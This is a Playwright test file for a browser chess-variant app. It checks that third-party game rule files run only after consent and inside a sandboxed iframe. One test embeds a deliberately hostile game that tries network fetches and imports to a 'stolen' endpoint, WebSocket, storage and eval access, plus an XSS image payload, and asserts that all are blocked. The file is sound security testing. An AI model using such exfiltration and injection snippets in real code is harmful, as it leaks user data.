import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { build } from 'vite';
import { barriers } from './barriers.ts';
import { collectErrors, expectNothingTooWide } from './player.ts';

/** Ranks of five squares: a king walks one or two squares up the a-file; the side that takes it to the last one wins. */
const rulesOf = (more = '', actions = '') => `
${more}
const other = (side) => (side === 'w' ? 'b' : 'w');
const name = (square) => 'a' + (square + 1);
export const walk = {
  id: 'walk', name: 'Walk', board: { files: 1, ranks: 5, marks: [] },
  pieces: [{ letter: 'K', name: 'king', value: 0 }],
  match: { goals: { default: 1, min: 1, max: 9 } },
  starts: (side) => [{ position: { at: 0, side }, weight: 1 }],
  side: (position) => position.side,
  actions: ({ at }) => { ${actions} return [at + 1, at + 2].filter((to) => to < 5).map((to) => (at << 8) | to); },
  chance: () => [],
  play: ({ side }, action) => ({ at: action & 255, side: other(side) }),
  end: ({ at, side }) => (at === 4 ? { kind: 'arrival', title: 'Arrival', winner: other(side), goals: 1 } : undefined),
  endByHistory: () => undefined,
  pieceAt: ({ at }, square) => (square === at ? { side: 'w', letter: 'K' } : undefined),
  events: () => [],
  look: () => 'move',
  text: {
    parse(text) { const [square, side] = text.split(' '); return { ok: true, value: { at: square[1] - 1, side } }; },
    format: ({ at, side }) => name(at) + ' ' + side,
    parseAction(position, text) {
      const action = walk.actions(position).find((one) => walk.text.formatAction({ action: one }) === text);
      return action === undefined ? { ok: false, error: { message: 'not legal' } } : { ok: true, value: { action } };
    },
    formatAction: ({ action }) => name(action >> 8) + name(action & 255),
  },
  notation: { describe: (position, { action }) => typeof found === 'undefined' ? name(action & 255) : found.join('; ') },
};`;

/** Offers a game to the page, and agrees to run it. */
async function run(page: Page, rules: string, words: object = {}): Promise<void> {
  const file = { format: 'kickmate-game', version: 1, id: 'walk', name: 'Walk', author: 'Ada', licence: 'MIT', rules };
  const buffer = Buffer.from(JSON.stringify({ ...file, ...words }));
  await page
    .getByLabel('Open a file of a game')
    .setInputFiles({ name: 'walk.json', mimeType: 'application/json', buffer });
  await expect(page.getByRole('heading', { name: 'Run this foreign game?' })).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
  await page.getByRole('button', { name: 'Run it', exact: true }).click();
}

/** Whose turn it is, or how the match ended. The board has a status of its own, which only screen readers say. */
const state = (page: Page) => page.getByRole('status').filter({ hasText: /Black|White|Arrival/ });
const square = (page: Page, name: string) => page.getByRole('gridcell', { name: new RegExp(`^${name}\\b`) });

test('a game from a file is played after consent, and is shown as foreign', async ({ page }) => {
  const errors = collectErrors(page);
  await page.goto('./');
  await page.getByRole('link', { name: 'A game from a file' }).click();
  await run(page, rulesOf(), { page: '# Walk\n\nStep to the other end.' });
  await expect(page.getByText('Foreign game: Walk by Ada, not by Kickmate.')).toBeVisible();
  if (page.viewportSize()!.width > 1000) {
    await page.setViewportSize({ width: 1200, height: 920 });
    expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBeLessThanOrEqual(920);
  }
  await page.getByLabel('The computer plays').selectOption('nobody: two people');
  await square(page, 'a1').click();
  await square(page, 'a3').click();
  await expect(state(page)).toHaveText('Black to act.');
  await square(page, 'a3').click();
  await square(page, 'a4').click();
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(state(page)).toHaveText('Black to act.');
  // The computer sees the win.
  await page.getByLabel('The computer plays').selectOption('Black');
  await expect(state(page)).toHaveText('Arrival. Black wins.');
  await expect(page.getByRole('heading', { name: 'Arrival. Black wins.' })).toBeVisible();
  await expect(page.getByRole('button', { name: 'New match' })).toBeInViewport({ ratio: 1 });
  await expect(page.getByText('Goals: White 0, Black 1')).toBeVisible();
  await page.getByRole('button', { name: 'Its rules' }).click();
  await expect(page.getByText('Step to the other end.')).toBeVisible();
  expect(await barriers(page)).toEqual([]);
  await expectNothingTooWide(page, 'a foreign game');
  await page.getByRole('button', { name: 'Close this game' }).click();
  await expect(page.locator('iframe')).toHaveCount(0);
  expect(errors).toEqual([]);
});

test('a hostile game reaches neither network nor storage nor the page', { tag: '@desktop' }, async ({
  page,
  baseURL,
}) => {
  // A request that the policy blocks is heard of, too; nothing of it is sent.
  const sent: string[] = [];
  const blocked = new Set<string>();
  page.on('requestfailed', (request) => blocked.add(`${request.url()} ${request.failure()?.errorText}`));
  page.on('response', (response) => sent.push(response.url()));
  const server = createServer((request, response) => {
    sent.push(`stolen: ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const other = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  await page.goto('./#/foreign');
  const attempts = `
const OWN = ${JSON.stringify(baseURL)};
const OTHER = ${JSON.stringify(other)};
const found = [];
const attempt = async (name, work) => {
  const late = new Promise((_, refuse) => setTimeout(refuse, 500));
  await Promise.race([Promise.resolve().then(work), late]).then(() => found.push(name), () => {});
};
await attempt('fetch', () => fetch(OWN + 'stolen'));
await attempt('other fetch', () => fetch(OTHER + 'stolen', { mode: 'no-cors' }));
await attempt('other import', () => import(OTHER + 'stolen.js'));
await attempt('import', () => import(OWN + 'stolen.js'));
await attempt('socket', () => new Promise((yes, no) => { const s = new WebSocket(OTHER.replace('http', 'ws') + 'stolen'); s.onopen = yes; s.onerror = no; }));
await attempt('database', () => new Promise((yes, no) => { const o = indexedDB.open('kickmate'); o.onsuccess = yes; o.onerror = no; }));
await attempt('cache', () => caches.open('stolen'));
await attempt('files', () => navigator.storage.getDirectory());
await attempt('eval', () => (0, eval)('1'));
if (found.length === 0) found.push('nothing <img src=stolen.png onerror=alert(1)>');
`;
  await run(page, rulesOf(attempts), { name: '<b>Walk</b>' });
  await expect(page.getByText('Foreign game: <b>Walk</b> by Ada')).toBeVisible();
  await page.getByLabel('The computer plays').selectOption('nobody: two people');
  await square(page, 'a1').click();
  await square(page, 'a2').click();
  await expect(page.locator('.played')).toHaveText('nothing <img src=stolen.png onerror=alert(1)>');
  server.close();
  expect(sent.filter((url) => url.includes('stolen'))).toEqual([]);
  for (const one of blocked) expect(one).toMatch(/stolen\.js csp$/);

  await test.step('the sandbox runs no code outside a sandboxed frame', async () => {
    const speakers = await page.evaluate(async () => {
      const frames = ['none', 'allow-scripts allow-same-origin', 'allow-scripts'].map((sandbox) => {
        const frame = document.createElement('iframe');
        if (sandbox !== 'none') frame.setAttribute('sandbox', sandbox);
        frame.src = './sandbox.html';
        return { sandbox, frame };
      });
      const heard: string[] = [];
      const ready = new Promise<void>((resolve) => {
        addEventListener('message', ({ data, source }) => {
          const speaker = frames.find(({ frame }) => frame.contentWindow === source);
          if (speaker) heard.push(`${speaker.sandbox}: ${data}`);
          if (speaker === frames.at(-1)) resolve();
        });
      });
      for (const { frame } of frames) {
        const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
        document.body.append(frame);
        await loaded;
      }
      await ready;
      return heard;
    });
    expect(speakers).toEqual(['allow-scripts: ready']);
  });
});

/** The template's rules and kernel, as its file would have them. */
async function templateParts() {
  const at = (file: string) => join(import.meta.dirname, '../../../packages/variants/template', file);
  const lib = { entry: at('src/index.ts'), formats: ['es' as const] };
  const built = await build({
    configFile: false,
    logLevel: 'error',
    build: { write: false, lib, rolldownOptions: { external: /build\/kernel\.js$/ } },
  });
  const [bundle] = [built].flat();
  if (!bundle || !('output' in bundle)) throw new Error('the template has no bundle');
  const kernel = {
    wasm: readFileSync(at('build/release.wasm')).toString('base64'),
    js: readFileSync(at('build/kernel.js'), 'utf8'),
  };
  return { rules: bundle.output[0].code, kernel };
}

test('matches are kept and saved, kernels search, and games that do not end, start or fit are ended or refused', {
  tag: '@desktop',
}, async ({ page }) => {
  const computer = page.getByLabel('The computer plays');
  await page.goto('./#/foreign');
  await test.step('an unfinished match goes on after a reload, and a match is saved as a file', async () => {
    await run(page, rulesOf());
    await computer.selectOption('nobody: two people');
    await square(page, 'a1').click();
    await square(page, 'a3').click();
    await expect(state(page)).toHaveText('Black to act.');
    await page.reload();
    await run(page, rulesOf());
    await expect(page.locator('.played')).toHaveText('a3');
    await expect(computer).toHaveValue('none');
    await square(page, 'a3').click();
    await square(page, 'a5').click();
    await expect(state(page)).toHaveText('Arrival. Black wins.');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Save the match' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('walk.pgn');
    expect(readFileSync(await download.path(), 'utf8')).toMatch(/\[Variant "walk"\][\s\S]*1\. a1a3 a3a5 0-1/);
    // A match that is over is not kept.
    await page.reload();
    await run(page, rulesOf());
    await expect(page.getByText('None yet.')).toBeVisible();
    await page.getByRole('button', { name: 'Close this game' }).click();
  });

  await test.step('a game that never answers is ended, and the page goes on', async () => {
    await run(page, rulesOf('', 'if (at > 0) for (;;);'));
    await computer.selectOption('nobody: two people');
    await square(page, 'a1').click();
    await square(page, 'a2').click();
    await expect(page.getByRole('alert')).toContainText('did not answer in time, and was ended');
    await expect(page.locator('iframe')).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'Run it', exact: true })).toBeVisible();
    await page.getByRole('button', { name: 'Do not run it' }).click();
  });

  await test.step('a game is ended when it is refused or left while it starts', async () => {
    const endless = rulesOf('await new Promise(() => {});');
    await run(page, endless);
    await expect(page.locator('iframe')).toHaveCount(1);
    await page.getByRole('button', { name: 'Do not run it' }).click();
    await expect(page.locator('iframe')).toHaveCount(0);
    await run(page, endless);
    await expect(page.locator('iframe')).toHaveCount(1);
    await page.goto('./#/about');
    await expect(page.locator('iframe')).toHaveCount(0);
  });

  await test.step('the computer searches on the kernel of a file, or says why it does not', async () => {
    const { rules, kernel } = await templateParts();
    const about = { id: 'template', name: 'Template' };
    await page.goto('./#/foreign');
    await run(page, rules, { ...about, kernel });
    await computer.selectOption('White');
    await expect(page.getByText('The computer searches on WebAssembly.')).toBeVisible();
    await page.getByRole('button', { name: 'Close this game' }).click();

    // The header of a module, and nothing in it.
    const wasm = Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]).toString('base64');
    await run(page, rules, { ...about, kernel: { ...kernel, wasm } });
    await computer.selectOption('White');
    await expect(page.getByText('The computer searches on JavaScript.')).toBeVisible();
    await expect(page.getByText('WebAssembly cannot run here')).toBeVisible();
    await page.getByRole('button', { name: 'Close this game' }).click();
  });

  await test.step('a game is offered from an address of the app itself', async () => {
    const about = { format: 'kickmate-game', version: 1, id: 'walk', name: 'Walk', author: 'Ada', licence: 'MIT' };
    await page.route('**/games/walk.json', (route) => route.fulfill({ json: { ...about, rules: rulesOf() } }));
    await page.goto('./#/foreign?from=games/walk.json');
    await expect(page.getByRole('heading', { name: 'Run this foreign game?' })).toBeVisible();
    await page.getByRole('button', { name: 'Do not run it' }).click();
    await expect(page.getByLabel('Open a file of a game')).toBeVisible();
  });

  await test.step('wrong files, wrong games and other hosts are refused with a reason', async () => {
    await page.goto('./#/foreign?from=https://example.com/walk.json');
    await expect(page.getByRole('alert')).toContainText('only from the address of the app itself');
    const buffer = Buffer.from('{}');
    await page
      .getByLabel('Open a file of a game')
      .setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer });
    await expect(page.getByRole('alert')).toContainText('This is no file of a game');
    await run(page, 'export const walk = 1;');
    await expect(page.getByRole('alert')).toContainText('its module exports no game with the id walk');
  });
});
